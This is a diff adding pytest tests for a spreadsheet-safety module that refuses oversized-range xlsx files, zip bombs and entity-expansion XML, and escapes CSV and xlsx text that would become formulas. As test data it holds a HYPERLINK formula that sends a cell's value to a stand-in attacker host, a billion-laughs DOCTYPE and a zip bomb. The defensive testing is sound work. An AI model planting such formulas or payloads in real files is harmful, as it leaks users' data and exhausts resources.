@@ -1,0 +1,84 @@
+"""config.spreadsheets: files are measured before a reader opens them, and text never leaves as a formula."""
+
+import io
+import zipfile
+
+import openpyxl
+import pytest
+
+from config import spreadsheets
+from config.spreadsheets import SpreadsheetRefused, check_xlsx, csv_cell, csv_row, csv_rows_read, xlsx_append
+from reviews.imports import template_csv
+from tests.hostile_files import corner_bomb, text_cell, xlsx
+
+LEAK = '=HYPERLINK("http://evil.example/?"&D2,"点此核对")'
+
+
+def test_the_corner_file_is_tiny_and_refused_before_any_reader_sees_it():
+    content = corner_bomb()
+    assert len(content) < 2048
+    with pytest.raises(SpreadsheetRefused, match="表格范围过大（XFD1048576）"):
+        check_xlsx(content)
+
+
+@pytest.mark.parametrize(("sheet", "dimension"), [
+    (f'<row r="1">{text_cell("A1", "x")}</row><row r="1048576"><c r="ZZ1048576"><v>1</v></c></row>', None),
+    ('<row r="1"><c r="A1"/></row>', "A1:XFD1048576"),
+    ('<row r="1000000"><c r="A1000000"/></row><row><c/><c/><c/><c/><c/><c/></row>', None),
+], ids=["a-far-cell", "the-dimension", "implicit-positions"])
+def test_every_way_of_naming_a_far_cell_counts(sheet, dimension):
+    with pytest.raises(SpreadsheetRefused, match="表格范围过大"):
+        check_xlsx(xlsx(sheet, dimension=dimension))
+
+
+def test_an_ordinary_sheet_passes_and_so_does_the_template(monkeypatch):
+    rows = "".join(f'<row r="{n}">{text_cell(f"A{n}", "E1")}<c r="E{n}"><v>3</v></c></row>' for n in range(1, 500))
+    check_xlsx(xlsx(rows, dimension="A1:E499"))
+    check_xlsx(template_csv())  # not a zip: left to the reader's own message
+    monkeypatch.setattr(spreadsheets, "MAX_CELLS", 499 * 5 - 1)
+    with pytest.raises(SpreadsheetRefused):
+        check_xlsx(xlsx(rows))
+
+
+def test_a_zip_bomb_is_refused_by_what_it_unpacks_to(monkeypatch):
+    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 4 * 1024 * 1024)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
+        book.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * 5 * 1024 * 1024 + b"</sst>")
+    assert len(out.getvalue()) < 16 * 1024
+    with pytest.raises(SpreadsheetRefused, match="解压后过大"):
+        check_xlsx(out.getvalue())
+
+
+def test_document_types_and_sheets_under_other_names_are_refused():
+    laughs = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+    with pytest.raises(SpreadsheetRefused, match="无法读取"):
+        check_xlsx(xlsx("<row><c><v>&b;</v></c></row>", doctype=laughs))
+    with pytest.raises(SpreadsheetRefused, match="无法读取"):
+        check_xlsx(xlsx('<row r="1"><c r="A1"/></row>', sheet_target="worksheets/sheet1.bin"))
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    (LEAK, "'" + LEAK), ("+86 138", "'+86 138"), ("-A1+B1", "'-A1+B1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"),
+    ("-3.5", "-3.5"), ("+2", "+2"), (-3, -3), (None, None), ("张三", "张三"), ("a=b", "a=b"),
+])
+def test_csv_cells_that_would_be_formulas_get_a_quote_and_numbers_stay_numbers(value, written):
+    assert csv_cell(value) == written
+
+
+def test_a_csv_written_here_reads_back_as_the_values_it_was_written_from():
+    values = [LEAK, "-夜班", "-3.5", "'quoted", "''=x", "张三", "@", "'"]
+    assert csv_rows_read([csv_row(values)]) == [values]
+
+
+def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text_exactly():
+    book = openpyxl.Workbook()
+    xlsx_append(book.active, ["E1", LEAK, -3, "=1+1"])
+    out = io.BytesIO()
+    book.save(out)
+    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml
+    row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
+    assert [c.value for c in row] == ["E1", LEAK, -3, "=1+1"]
+    assert [c.data_type for c in row] == ["s", "s", "n", "s"]
